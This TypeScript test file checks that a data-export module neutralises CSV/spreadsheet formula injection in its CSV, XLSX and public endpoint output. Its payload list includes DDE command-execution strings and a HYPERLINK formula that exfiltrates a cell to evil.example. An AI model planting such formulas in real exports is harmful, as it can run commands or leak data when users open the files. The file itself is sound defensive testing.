import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Harness, startHarness } from '../test-support.ts';
import { toCsv, toXlsx } from './formats.ts';
import type { ExportTable } from './tables.ts';

// Payloads from OWASP's "CSV Injection" page and the attack run of issue 8.
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

const table = (cells: ExportTable['rows'][number]): ExportTable => ({
  name: 't',
  headers: cells.map((_, i) => `c${i}`),
  rows: [cells],
});

/** The cells of the first data row as a spreadsheet would read them (papaparse, unquoted). */
const csvCells = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data[1];

describe('CSV export neutralises formulas', () => {
  it.each(FORMULAS)('prefixes %j with a quote', (text) => {
    expect(csvCells(toCsv(table([text])))).toEqual([`'${text}`]);
  });

  it('keeps real numbers, negative ones included, as numbers and leaves plain text alone', () => {
    const csv = toCsv(table([-12.5, 0, 82.54, true, 'Báo cáo quý IV', 'a=b', null]));
    expect(csvCells(csv)).toEqual(['-12.5', '0', '82.54', 'true', 'Báo cáo quý IV', 'a=b', '']);
  });
});

describe('XLSX export writes text as text', () => {
  it('writes formula-like text as string cells, numbers as numbers, and no formula at all', async () => {
    const buffer = await toXlsx(table([...FORMULAS, -12.5]));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]?.getRow(2);
    FORMULAS.forEach((text, i) => {
      const cell = row?.getCell(i + 1);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare CR back as LF (line-end normalisation); the text is otherwise verbatim.
      expect(cell?.value).toBe(text.replace(/\r/g, '\n'));
    });
    expect(row?.getCell(FORMULAS.length + 1).value).toBe(-12.5);
    const zip = await JSZip.loadAsync(buffer);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheetXml).toBeDefined();
    expect(sheetXml).not.toMatch(/<f[ >]/);
  });
});

describe('the public export endpoint', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness();
  });
  afterAll(async () => {
    await h.close();
  });

  it('serves a note typed as a formula neutralised in CSV and verbatim text in XLSX', async () => {
    const note = "=cmd|' /C calc'!A0";
    const recorded = await h.gql<{ recordObservation: { __typename: string } }>(
      'mutation($input: RecordObservationInput!) { recordObservation(input: $input) { __typename } }',
      {
        input: { ward: 'hai-an', indicator: 'DS_VNEID', year: 2026, value: 50, note },
      },
      h.tokens.editor,
    );
    expect(recorded.data.recordObservation.__typename).toBe('MutationRecordObservationSuccess');

    const csv = await (await fetch(`${h.url}/export/observations.csv?ward=hai-an`)).text();
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const noteColumn = rows[0]?.indexOf('Ghi chú') ?? -1;
    const notes = rows.slice(1).map((r) => r[noteColumn]);
    expect(notes).toContain(`'${note}`);
    expect(notes).not.toContain(note);

    const xlsx = Buffer.from(
      await (await fetch(`${h.url}/export/observations.xlsx?ward=hai-an`)).arrayBuffer(),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]?.eachRow((r) => {
      r.eachCell((c) => {
        cells.push(c);
      });
    });
    const noteCell = cells.find((c) => c.text === note);
    expect(noteCell?.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
